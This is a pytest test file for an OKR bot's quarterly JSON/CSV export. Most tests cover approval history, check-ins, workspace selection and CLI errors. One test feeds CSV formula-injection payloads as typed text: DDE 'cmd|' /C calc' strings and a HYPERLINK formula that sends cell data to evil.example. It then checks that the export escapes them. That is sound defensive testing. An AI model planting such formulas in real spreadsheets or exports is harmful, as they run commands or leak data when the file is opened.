"""`okrbot export`: a quarter's OKRs with every decision and check-in, as JSON or CSV."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import event, select, update

from okrbot import cli
from okrbot.cli import EXIT_CONFIG, export
from okrbot.config import ENV_NAMES
from okrbot.domain.quarters import Quarter
from okrbot.export_formats import CSV_COLUMNS
from okrbot.sandbox.harness import AUTHOR, CEO, MANAGER, ORG_CSV
from okrbot.services import export as exporting
from okrbot.slack import ids
from okrbot.store.engine import create_engine
from okrbot.store.models import KeyResult, Objective, Person
from okrbot.store.uow import SessionFactory
from tests.slack.helpers import GOOD_FORM, objectives, requests_to, submit_objective
from tests.slack.weekly_helpers import seed_company
from tests.support.sandbox import Sandbox

QUARTER = "2027-Q1"
OTHER_WORKSPACE = "T0OTHER01"
# Everything a CSV writer must quote, in the fields people type freely.
TITLE = 'Grow "self-serve", fast'
REASON = 'Too vague, "grow" by how much?\nSay it in numbers.'
COMMENT = 'Slow start, but "signups" are up.\nMore next week.'
# In 2027-Q1, when the check-ins happen; the export runs a few days later.
CHECK_IN_AT = datetime(2027, 1, 8, 12, 0, tzinfo=UTC)
EXPORTED_AT = datetime(2027, 1, 11, 9, 30, tzinfo=UTC)


@dataclass(frozen=True)
class Quarterful:
    """What was built, by id, to compare the export with."""

    submitted: int
    seeded: tuple[int, ...]
    withdrawn: int
    earlier_quarter: int
    other_workspace: int
    rejected_at: datetime
    published_at: datetime


async def _objective_ids(box: Sandbox, owners: list[str], quarter: str) -> list[int]:
    async with box.uow() as uow:
        rows = await uow.session.scalars(
            select(Objective.id)
            .where(Objective.owner_id.in_(owners), Objective.quarter == quarter)
            .order_by(Objective.id)
        )
        return list(rows.all())


async def _check_in(box: Sandbox, user: str, values: dict[int, str], note: str | None) -> None:
    """Through the form, as the person would: `values` maps positions to what they type."""
    await box.slack.slash(user, "checkin")
    await box.settle()
    view = box.fake.open_views_for(user)[-1]
    assert view["callback_id"] == ids.CHECKIN_VIEW
    numbers = [
        b["block_id"]
        for b in view["blocks"]
        if b["type"] == "input" and b["element"]["type"] == "number_input"
    ]
    typed: dict[str, Any] = {numbers[position - 1]: value for position, value in values.items()}
    blocks = [b.get("block_id", "") for b in view["blocks"]]
    typed[next(b for b in blocks if b.startswith("conf_"))] = "at_risk"
    if note is not None:
        typed[next(b for b in blocks if b.startswith("note_"))] = note
    response = await box.slack.submit_view(user, view["id"], typed)
    assert response.json() == {}
    await box.settle()


async def build(box: Sandbox) -> Quarterful:
    """An objective through the whole approval path (rejected, resubmitted, approved) and
    two check-ins; seeded ones beside it; others that must stay out of the export."""
    await box.import_org()
    await submit_objective(box, AUTHOR.id, {**GOOD_FORM, "title": TITLE, "quarter": QUARTER})
    [request] = requests_to(box, MANAGER.id)
    await box.slack.click(MANAGER.id, request, ids.REJECT)
    await box.settle()
    reject_view = box.fake.open_views_for(MANAGER.id)[-1]
    rejected_at = box.clock()
    await box.slack.submit_view(MANAGER.id, reject_view["id"], {"reason": REASON})
    await box.settle()

    box.clock.advance(hours=1)
    notice = box.fake.dms_to(AUTHOR.id)[-1]
    await box.slack.click(AUTHOR.id, notice, ids.RESUBMIT)
    await box.settle()
    edit_view = box.fake.open_views_for(AUTHOR.id)[-1]
    await box.slack.submit_view(AUTHOR.id, edit_view["id"], {"kr1_target": "75"})
    await box.settle()
    box.clock.advance(hours=1)
    await box.slack.click(MANAGER.id, requests_to(box, MANAGER.id)[-1], ids.APPROVE)
    await box.settle()
    published_at = box.clock()
    await box.slack.click(CEO.id, requests_to(box, CEO.id)[-1], ids.APPROVE)
    await box.settle()
    [submitted] = await objectives(box)
    assert submitted.status == "approved"

    seeded_owners = await seed_company(box, 3, krs=2, quarter=QUARTER)
    earlier_owners = await seed_company(box, 1, quarter="2026-Q4", first=10)
    seeded = await _objective_ids(box, seeded_owners, QUARTER)
    [earlier] = await _objective_ids(box, earlier_owners, "2026-Q4")
    now = box.clock()
    async with box.uow(readonly=False) as uow:
        # Nothing is deleted: a withdrawn objective is still part of the quarter's record.
        await uow.session.execute(
            update(Objective)
            .where(Objective.id == seeded[1])
            .values(status="withdrawn", withdrawn_at=now)
        )
        for user, name in ((AUTHOR.id, "Aisha Åse"), (MANAGER.id, "Mads")):
            await uow.session.execute(
                update(Person)
                .where(Person.workspace_id == box.fake.team_id, Person.user_id == user)
                .values(display_name=name)
            )
        stranger = Objective(
            workspace_id=OTHER_WORKSPACE,
            owner_id="U0STRANGE",
            level="personal",
            team=None,
            quarter=QUARTER,
            title="Someone else's company",
            description="",
            status="approved",
            version=1,
            created_at=now,
            updated_at=now,
            published_at=now,
            key_results=[
                KeyResult(position=i, description=f"KR {i}", start_value=0, target_value=1)
                for i in (1, 2)
            ],
        )
        uow.objectives.add(stranger)
        await uow.commit()
        stranger_id = stranger.id

    box.clock.now = CHECK_IN_AT
    await _check_in(box, AUTHOR.id, {1: "50", 2: "2.5"}, COMMENT)
    box.clock.advance(days=1)
    await _check_in(box, AUTHOR.id, {1: "55"}, None)
    return Quarterful(
        submitted=submitted.id,
        seeded=tuple(seeded),
        withdrawn=seeded[1],
        earlier_quarter=earlier,
        other_workspace=stranger_id,
        rejected_at=rejected_at,
        published_at=published_at,
    )


async def _run(box: Sandbox, fmt: str, path: Path, **options: Any) -> int:
    options.setdefault("workspace", box.fake.team_id)
    return await export(box.settings(), QUARTER, fmt, output=path, now=EXPORTED_AT, **options)


def _z(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat().replace("+00:00", "Z")


async def test_json_holds_every_decision_and_check_in_of_the_quarter(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    built = await build(box)
    path = tmp_path / "q1.json"
    assert await _run(box, "json", path) == 0
    assert capsys.readouterr().out == f"okrbot: exported 4 objectives of {QUARTER} to {path}\n"

    document = json.loads(path.read_text(encoding="utf-8"))
    assert list(document) == ["quarter", "workspace", "exported_at", "objectives", "people"]
    assert document["quarter"] == QUARTER
    assert document["workspace"] == box.fake.team_id
    assert document["exported_at"] == "2027-01-11T09:30:00Z"
    # Sorted by id; the earlier quarter and the other workspace are not there.
    assert [o["id"] for o in document["objectives"]] == [built.submitted, *built.seeded]
    by_id = {o["id"]: o for o in document["objectives"]}
    assert by_id[built.withdrawn]["status"] == "withdrawn"
    assert by_id[built.withdrawn]["withdrawn_at"] is not None

    mine = by_id[built.submitted]
    assert list(mine)[:4] == ["id", "level", "team", "owner"]
    assert (mine["owner"], mine["title"], mine["version"]) == (AUTHOR.id, TITLE, 2)
    assert (mine["status"], mine["published_at"]) == ("approved", _z(built.published_at))
    assert mine["approvals"] == [
        {
            "version": 1,
            "stage": "manager",
            "approver": MANAGER.id,
            "outcome": "rejected",
            "reason": REASON,
            "decided_by": MANAGER.id,
            "decided_at": _z(built.rejected_at),
            "requested_at": mine["created_at"],
        },
        {
            "version": 2,
            "stage": "manager",
            "approver": MANAGER.id,
            "outcome": "approved",
            "reason": None,
            "decided_by": MANAGER.id,
            "decided_at": mine["approvals"][1]["decided_at"],
            "requested_at": mine["approvals"][1]["requested_at"],
        },
        {
            "version": 2,
            "stage": "ceo",
            "approver": CEO.id,
            "outcome": "approved",
            "reason": None,
            "decided_by": CEO.id,
            "decided_at": _z(built.published_at),
            "requested_at": mine["approvals"][1]["decided_at"],
        },
    ]
    # Each key result's id, as the HTTP API and /okr show know it.
    async with box.uow() as uow:
        rows = await uow.session.scalars(
            select(KeyResult.id)
            .where(KeyResult.objective_id == mine["id"])
            .order_by(KeyResult.position)
        )
        assert [k["id"] for k in mine["key_results"]] == list(rows)
    krs = [
        (k["position"], k["start"], k["target"], k["unit"], k["current"], k["progress"])
        for k in mine["key_results"]
    ]
    # The second check-in left KR 2 as it was, so its latest value is still 2.5.
    assert krs == [(1, 40.0, 75.0, "%", 55.0, round(15 / 35, 4)), (2, 3.0, 1.0, "days", 2.5, 0.25)]
    assert mine["confidence"] == "at_risk"
    assert mine["check_ins"] == [
        {
            "author": AUTHOR.id,
            "created_at": "2027-01-08T12:00:00Z",
            "confidence": "at_risk",
            "comment": COMMENT,
            "values": [{"key_result": 1, "value": 50.0}, {"key_result": 2, "value": 2.5}],
            "source": "slack",
        },
        {
            "author": AUTHOR.id,
            "created_at": "2027-01-09T12:00:00Z",
            "confidence": "at_risk",
            "comment": None,
            "values": [{"key_result": 1, "value": 55.0}, {"key_result": 2, "value": 2.5}],
            "source": "slack",
        },
    ]
    assert mine["last_check_in_at"] == "2027-01-09T12:00:00Z"
    assert by_id[built.seeded[0]]["approvals"] == []
    assert by_id[built.seeded[0]]["check_ins"] == []
    # Names for the people the export mentions, where Slack's directory gave one.
    assert document["people"] == {AUTHOR.id: "Aisha Åse", MANAGER.id: "Mads"}
    assert OTHER_WORKSPACE not in path.read_text(encoding="utf-8")


async def test_csv_has_a_row_per_key_result_and_round_trips_free_text(
    box: Sandbox, tmp_path: Path
) -> None:
    built = await build(box)
    path = tmp_path / "q1.csv"
    assert await _run(box, "csv", path) == 0

    raw = path.read_bytes()
    # Excel reads the file as UTF-8 only with the byte order mark.
    assert raw.startswith("\ufeff".encode())
    with path.open(encoding="utf-8-sig", newline="") as f:
        reader = csv.reader(f)
        header = next(reader)
        rows = [dict(zip(header, row, strict=True)) for row in reader]
    assert tuple(header) == CSV_COLUMNS
    # Two key results each: the form's and the seeded ones.
    assert [(int(r["objective_id"]), int(r["kr_position"])) for r in rows] == [
        (objective, position)
        for objective in (built.submitted, *built.seeded)
        for position in (1, 2)
    ]
    first, second = rows[0], rows[1]
    assert first["title"] == second["title"] == TITLE
    assert first["owner_name"] == "Aisha Åse"
    assert first["last_rejection_reason"] == REASON
    assert first["approvals"] == (
        f"v1 manager rejected by Mads; v2 manager approved by Mads; v2 ceo approved by {CEO.id}"
    )
    assert (first["status"], first["version"], first["confidence"]) == ("approved", "2", "at_risk")
    assert first["check_ins"] == "2"
    assert [(r["kr_start"], r["kr_target"], r["kr_unit"], r["kr_current"]) for r in rows[:2]] == [
        ("40", "75", "%", "55"),
        ("3", "1", "days", "2.5"),
    ]
    assert (first["kr_progress"], second["kr_progress"]) == (str(round(15 / 35, 4)), "0.25")
    assert first["last_check_in_at"] == "2027-01-09T12:00:00Z"
    withdrawn = [r for r in rows if int(r["objective_id"]) == built.withdrawn]
    assert {r["status"] for r in withdrawn} == {"withdrawn"}
    seeded = next(r for r in rows if int(r["objective_id"]) == built.seeded[0])
    assert (seeded["approvals"], seeded["last_rejection_reason"], seeded["kr_current"]) == (
        "",
        "",
        "",
    )


async def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
    box: Sandbox, tmp_path: Path
) -> None:
    # Anyone in the workspace types these; whoever opens the sheet would run them.
    team = "=cmd|' /C calc'!A0"
    title = '=HYPERLINK("https://evil.example/?d="&A1, "Open")'
    reason = "+1+cmd|' /C calc'!A0"
    await box.import_org(ORG_CSV.replace(",Product,", f",{team},"))
    form = {
        **GOOD_FORM,
        "title": title,
        "quarter": QUARTER,
        "kr1_desc": "@SUM(1+1)*cmd|' /C calc'!A0",
        "kr1_start": "-5",
        "kr1_target": "10",
        "kr1_unit": "-1+1",
    }
    await submit_objective(box, AUTHOR.id, form)
    [request] = requests_to(box, MANAGER.id)
    await box.slack.click(MANAGER.id, request, ids.REJECT)
    await box.settle()
    reject_view = box.fake.open_views_for(MANAGER.id)[-1]
    await box.slack.submit_view(MANAGER.id, reject_view["id"], {"reason": reason})
    await box.settle()
    async with box.uow(readonly=False) as uow:
        # Names come from Slack's directory, where people choose their own.
        await uow.session.execute(
            update(Person)
            .where(Person.workspace_id == box.fake.team_id, Person.user_id == AUTHOR.id)
            .values(display_name="\t=1+1")
        )
        await uow.commit()

    path = tmp_path / "q1.csv"
    assert await _run(box, "csv", path) == 0
    with path.open(encoding="utf-8-sig", newline="") as f:
        first, second = list(csv.DictReader(f))
    assert first["title"] == second["title"] == "'" + title
    assert first["team"] == "'" + team
    assert first["owner_name"] == "'\t=1+1"
    assert first["last_rejection_reason"] == "'" + reason
    assert (first["kr_description"], first["kr_unit"]) == (
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-1+1",
    )
    # Numbers stay numbers, negative ones too; text that starts harmlessly is untouched.
    assert (first["kr_start"], first["kr_target"]) == ("-5", "10")
    assert (second["kr_description"], second["kr_unit"]) == (
        GOOD_FORM["kr2_desc"],
        GOOD_FORM["kr2_unit"],
    )
    # The JSON is data, not a sheet: it keeps what was typed.
    json_path = tmp_path / "q1.json"
    assert await _run(box, "json", json_path) == 0
    [document] = json.loads(json_path.read_text(encoding="utf-8"))["objectives"]
    assert (document["title"], document["team"]) == (title, team)


async def test_csv_goes_to_standard_output_without_a_file(
    box: Sandbox, capsys: pytest.CaptureFixture[str]
) -> None:
    await seed_company(box, 2, krs=3, quarter=QUARTER)
    code = await export(box.settings(), QUARTER, "csv", now=EXPORTED_AT)
    assert code == 0

    captured = capsys.readouterr()
    assert captured.err == ""
    rows = list(csv.DictReader(io.StringIO(captured.out, newline="")))
    assert len(rows) == 6
    assert {r["title"] for r in rows} == {
        "Objective 0 of person 0000",
        "Objective 0 of person 0001",
    }


async def test_two_workspaces_need_a_choice(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await build(box)
    capsys.readouterr()
    path = tmp_path / "q1.json"

    assert await _run(box, "json", path, workspace=None) == EXIT_CONFIG
    captured = capsys.readouterr()
    assert captured.out == ""
    held = ", ".join(sorted([box.fake.team_id, OTHER_WORKSPACE]))
    assert captured.err == (
        f"okrbot: this database holds several workspaces ({held}): choose one with --workspace\n"
    )
    assert not path.exists()

    assert await _run(box, "json", path, workspace="T0NOWHERE") == EXIT_CONFIG
    assert "workspace T0NOWHERE is not in this database" in capsys.readouterr().err

    assert await _run(box, "json", path, workspace=OTHER_WORKSPACE) == 0
    [theirs] = json.loads(path.read_text(encoding="utf-8"))["objectives"]
    assert theirs["title"] == "Someone else's company"


@pytest.mark.parametrize("quarter", ["2027-Q5", "next quarter", ""])
async def test_a_bad_quarter_is_one_line_and_exit_2(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], quarter: str
) -> None:
    path = tmp_path / "out.json"
    assert await export(box.settings(), quarter, "json", output=path) == EXIT_CONFIG

    captured = capsys.readouterr()
    assert captured.out == ""
    [line] = captured.err.splitlines()
    assert line.startswith(f"okrbot: invalid quarter {quarter!r}")
    assert not path.exists()


async def test_an_out_of_date_schema_is_refused(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    empty = tmp_path / "empty.db"
    empty.touch()
    settings = box.settings().model_copy(update={"database_url": f"sqlite:///{empty}"})
    assert await export(settings, QUARTER, "json") == EXIT_CONFIG

    captured = capsys.readouterr()
    assert captured.out == ""
    [line] = captured.err.splitlines()
    assert "run `okrbot migrate`" in line
    # Only the app reads OKRBOT_AUTO_MIGRATE: an export never migrates.
    assert "OKRBOT_AUTO_MIGRATE" not in line


async def test_a_database_file_that_is_not_there_is_not_created(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    missing = folder / "typo.db"
    settings = box.settings().model_copy(update={"database_url": f"sqlite:///{missing}"})
    assert await export(settings, QUARTER, "json", output=folder / "out.json") == EXIT_CONFIG

    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.splitlines() == [
        f"okrbot: DATABASE_URL: there is no database at {missing} (run okrbot where it runs, "
        "or point DATABASE_URL at its database)"
    ]
    assert list(folder.iterdir()) == []


async def test_without_a_quarter_the_current_one_is_exported(box: Sandbox, tmp_path: Path) -> None:
    path = tmp_path / "out.json"
    # 2027-03-31 23:30 in UTC is already April 1st, 2027-Q2, in Oslo (OKRBOT_TIMEZONE).
    late = datetime(2027, 3, 31, 23, 30, tzinfo=UTC)
    settings = box.settings().model_copy(update={"timezone": ZoneInfo("Europe/Oslo")})
    assert await export(settings, None, "json", output=path, now=late) == 0
    assert json.loads(path.read_text(encoding="utf-8"))["quarter"] == "2027-Q2"
    in_utc = box.settings().model_copy(update={"timezone": ZoneInfo("UTC")})
    assert await export(in_utc, None, "json", output=path, now=late) == 0
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["quarter"] == "2027-Q1"


async def test_the_number_of_queries_does_not_grow_with_the_quarter(box: Sandbox) -> None:
    async def queries() -> int:
        statements: list[str] = []

        def count(*args: Any) -> None:
            statements.append(str(args[2]))

        engine = box.bot.uow.engine.sync_engine
        event.listen(engine, "before_cursor_execute", count)
        try:
            async with box.uow() as uow:
                await exporting.export_quarter(
                    uow, box.fake.team_id, Quarter.parse(QUARTER), now=EXPORTED_AT
                )
        finally:
            event.remove(engine, "before_cursor_execute", count)
        # The BEGIN that opens the transaction is not a query.
        return sum(1 for sql in statements if sql.lstrip().upper().startswith("SELECT"))

    await seed_company(box, 1, krs=2, quarter=QUARTER)
    small = await queries()
    await seed_company(box, 40, per_person=2, krs=5, quarter=QUARTER, first=1)
    assert await queries() == small == 6


def test_the_command_line_writes_the_file(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ENV_NAMES.values():
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.lower(), raising=False)
    # No `.env` from the developer's working directory, and no Slack token at all.
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", database_url)

    async def seed() -> None:
        engine = create_engine(database_url)
        now = datetime(2027, 1, 4, tzinfo=UTC)
        try:
            async with SessionFactory(engine)() as uow:
                uow.objectives.add(
                    Objective(
                        workspace_id="T0CLI0001",
                        owner_id=AUTHOR.id,
                        level="personal",
                        quarter=QUARTER,
                        title="Ship, then\nsleep",
                        status="awaiting_manager",
                        created_at=now,
                        updated_at=now,
                        key_results=[
                            KeyResult(position=1, description="a", start_value=0, target_value=9),
                        ],
                    )
                )
                await uow.commit()
        finally:
            await engine.dispose()

    asyncio.run(seed())
    path = tmp_path / "out.csv"
    assert (
        cli.main(["export", "--quarter", "2027q1", "--format", "csv", "--output", str(path)]) == 0
    )
    with path.open(encoding="utf-8-sig", newline="") as f:
        [row] = list(csv.DictReader(f))
    assert (row["quarter"], row["title"], row["status"]) == (
        QUARTER,
        "Ship, then\nsleep",
        "awaiting_manager",
    )
    assert (row["kr_target"], row["kr_current"], row["kr_progress"]) == ("9", "", "0")

    assert cli.main(["export", "--quarter", "2027-Q0"]) == EXIT_CONFIG
